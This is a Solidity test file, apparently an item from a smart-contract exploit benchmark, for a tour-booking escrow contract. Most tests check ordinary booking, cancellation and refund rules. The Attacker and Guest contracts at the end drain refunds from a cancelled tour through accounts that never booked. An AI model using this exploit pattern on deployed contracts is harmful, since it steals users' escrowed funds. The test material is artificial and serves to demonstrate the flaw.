// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./IslandTours.sol";

// assay-canary-3e927316-ad46-4bcc-96a8-cc949ec31801

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Dollar is ERC20 {
    constructor() ERC20("Dollar", "USD") {
        _mint(msg.sender, 100_000e6);
    }

    function decimals() public pure override returns (uint8) {
        return 6;
    }
}

/// One of many accounts without a booking.
contract Guest {
    constructor(IslandTours tours, uint256 id, address to) {
        uint256 amount = tours.refund(id);
        tours.dollar().transfer(to, amount);
    }
}

contract Attacker {
    function ask(IslandTours tours, uint256 id, uint256 times) external {
        for (uint256 i = 0; i < times && i < 40; i++) new Guest(tours, id, address(this));
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant LIV = address(0x11F);
    address private constant PER = address(0x9E4);
    uint256 private constant START = 1_769_500_000;
    uint64 private constant LEAVES = uint64(START + 7 days);

    Dollar public dollar;
    IslandTours private tours;
    Attacker private stranger;

    function setUp() public {
        vm.warp(START);
        dollar = new Dollar();
        tours = new IslandTours(dollar);
        vm.prank(LIV);
        tours.offer(300e6, 6, LEAVES);
        vm.prank(LIV);
        tours.offer(100e6, 2, LEAVES);
        for (uint160 i = 1; i <= 5; i++) _book(address(0x6000 + i), 0);
        vm.prank(LIV);
        tours.callOff(0);
        stranger = new Attacker();
    }

    function _book(address who, uint256 id) private {
        dollar.transfer(who, 300e6);
        vm.startPrank(who);
        dollar.approve(address(tours), type(uint256).max);
        tours.book(id);
        vm.stopPrank();
    }

    function test_Regular() public {
        require(tours.tourCount() == 2 && tours.paid(0, address(0x6001)) == 300e6, "booked");
        for (uint160 i = 1; i <= 5; i++) {
            vm.prank(address(0x6000 + i));
            require(tours.refund(0) == 300e6 && dollar.balanceOf(address(0x6000 + i)) == 300e6, "refunded");
        }
        _book(PER, 1);
        require(dollar.balanceOf(PER) == 200e6, "paid");
        vm.prank(PER);
        require(tours.cancel(1) == 90e6 && dollar.balanceOf(PER) == 290e6 && dollar.balanceOf(LIV) == 10e6, "cancelled");
        _book(address(0x6001), 1);
        vm.warp(LEAVES - 1);
        vm.prank(PER);
        tours.book(1);
        vm.warp(LEAVES + 1 days);
        vm.prank(LIV);
        require(tours.collect(1) == 200e6 && dollar.balanceOf(LIV) == 210e6 && dollar.balanceOf(address(tours)) == 0, "back");
    }

    function test_RefusesTours() public {
        vm.expectRevert("bad tour");
        tours.offer(0, 1, LEAVES);
        vm.expectRevert("bad tour");
        tours.offer(1, 0, LEAVES);
        vm.expectRevert("bad tour");
        tours.offer(1, 41, LEAVES);
        vm.expectRevert("gone already");
        tours.offer(1, 40, uint64(START));
    }

    function test_RefusesBookings() public {
        vm.expectRevert(abi.encodeWithSelector(IslandTours.Closed.selector, 0));
        tours.book(0);
        dollar.approve(address(tours), type(uint256).max);
        tours.book(1);
        vm.expectRevert("you have one");
        tours.book(1);
        _book(PER, 1);
        vm.expectRevert("no seat");
        vm.prank(address(0x6001));
        tours.book(1);
        vm.warp(LEAVES);
        vm.expectRevert(abi.encodeWithSelector(IslandTours.Closed.selector, 1));
        vm.prank(address(0x6001));
        tours.book(1);
    }

    function test_RefusesChangesOfMind() public {
        vm.expectRevert(abi.encodeWithSelector(IslandTours.NotBooked.selector, 1));
        tours.cancel(1);
        vm.expectRevert(abi.encodeWithSelector(IslandTours.Closed.selector, 0));
        vm.prank(address(0x6001));
        tours.cancel(0);
        _book(PER, 1);
        vm.warp(LEAVES - 1 days);
        vm.expectRevert(abi.encodeWithSelector(IslandTours.Closed.selector, 1));
        vm.prank(PER);
        tours.cancel(1);
    }

    function test_RefusesSkippers() public {
        vm.expectRevert(abi.encodeWithSelector(IslandTours.NotSkipper.selector, 1));
        tours.callOff(1);
        vm.warp(LEAVES + 1 days);
        vm.expectRevert(abi.encodeWithSelector(IslandTours.NotSkipper.selector, 1));
        tours.collect(1);
        vm.startPrank(LIV);
        vm.expectRevert(abi.encodeWithSelector(IslandTours.Closed.selector, 0));
        tours.callOff(0);
        vm.expectRevert(abi.encodeWithSelector(IslandTours.Closed.selector, 0));
        tours.collect(0);
        vm.warp(LEAVES + 1 days - 1);
        vm.expectRevert(abi.encodeWithSelector(IslandTours.Closed.selector, 1));
        tours.collect(1);
        vm.warp(LEAVES + 1 days);
        tours.collect(1);
        vm.expectRevert(abi.encodeWithSelector(IslandTours.Closed.selector, 1));
        tours.collect(1);
        vm.expectRevert(abi.encodeWithSelector(IslandTours.Closed.selector, 1));
        tours.callOff(1);
        vm.stopPrank();
    }

    function test_RefusesRefunds() public {
        vm.expectRevert(abi.encodeWithSelector(IslandTours.Closed.selector, 1));
        tours.refund(1);
        vm.startPrank(address(0x6002));
        tours.refund(0);
        vm.expectRevert("had it already");
        tours.refund(0);
        vm.stopPrank();
    }

    function exploit() public {
        stranger.ask(tours, 0, 5);
    }

    function test_Exploit() public {
        exploit();
        require(dollar.balanceOf(address(stranger)) >= 1_500e6, "no gain");
    }

    function target() public view returns (address) {
        return address(tours);
    }

    function attacker() public view returns (address) {
        return address(stranger);
    }
}
